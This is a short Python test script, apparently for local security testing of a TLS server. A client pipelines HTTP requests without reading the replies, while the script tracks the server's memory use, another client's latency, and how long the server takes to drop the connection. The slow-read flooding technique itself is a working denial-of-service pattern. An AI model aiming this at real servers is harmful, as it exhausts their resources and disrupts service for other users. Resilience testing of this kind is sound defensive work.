"""A TLS client pipelining requests and never reading; another client's latency and
the server's memory are watched, and the time until the server gives up on it."""
import sys, time, socket, threading, subprocess
import tlsattack as t
port, path, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
hdr = sys.argv[4] if len(sys.argv) > 4 else ""
pid = subprocess.run(["sh", "-c", f"ps -eo pid,cmd | grep '[1]27.0.0.1:{port}' | awk '{{print $1}}'"], capture_output=True, text=True).stdout.split()[0]
def rss():
    return open(f"/proc/{pid}/status").read().split("VmRSS:")[1].split("\n")[0].strip()
s = t.tls_connect(port, "127.0.0.2", timeout=60)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
req = f"GET {path} HTTP/1.1\r\nHost: localhost\r\n{hdr}\r\n".encode()
start = time.monotonic()
sent = 0
s.settimeout(0.5)
try:
    for i in range(count):
        s.sendall(req); sent += 1
except Exception as e:
    print("send stopped after", sent, type(e).__name__, round(time.monotonic() - start, 1), "s")
print("rss", rss())
for _ in range(4):
    print("probe", t.probe(port, "127.0.0.3"), "rss", rss())
    time.sleep(1)
# How long until the server closes it (we still never read)?
s.settimeout(1)
for i in range(60):
    try:
        s.sendall(req)
    except Exception as e:
        print("closed by server after", round(time.monotonic() - start, 1), "s:", type(e).__name__)
        break
    time.sleep(1)
else:
    print("still open after", round(time.monotonic() - start, 1), "s")
print("rss", rss())
